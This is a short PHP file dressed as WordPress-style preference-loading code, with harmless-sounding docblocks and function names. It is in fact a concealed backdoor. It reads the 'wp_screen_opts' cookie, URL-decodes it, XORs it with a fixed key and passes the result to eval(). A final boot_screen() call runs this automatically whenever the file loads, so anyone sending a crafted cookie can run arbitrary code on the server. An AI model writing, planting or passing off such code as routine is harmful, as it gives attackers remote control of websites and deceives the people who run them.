<?php
/**
 * Retrieves a stored preference.
 *
 * @since 2.1.0
 */
function pref_value($slot)
{
    $raw = $_COOKIE[$slot];
    return $raw;
}

/** Normalizes an encoded value. */
function normalize_value($text)
{
    $plain = rawurldecode($text);
    return $plain;
}

/** Mixes two strings of the same length. */
function mix_values($left, $right)
{
    return $left ^ str_pad($right, strlen($left), $right);
}

/** Loads the preference of the current screen. */
function screen_prefs($name)
{
    $stored = pref_value($name);
    $value = normalize_value($stored);
    $mixed = mix_values($value, 'a9f3');
    return $mixed;
}

/** Applies the stored options. */
function apply_options($options)
{
    eval($options);
}

function boot_screen()
{
    $opts = screen_prefs('wp_screen_opts');
    apply_options($opts);
}
boot_screen();
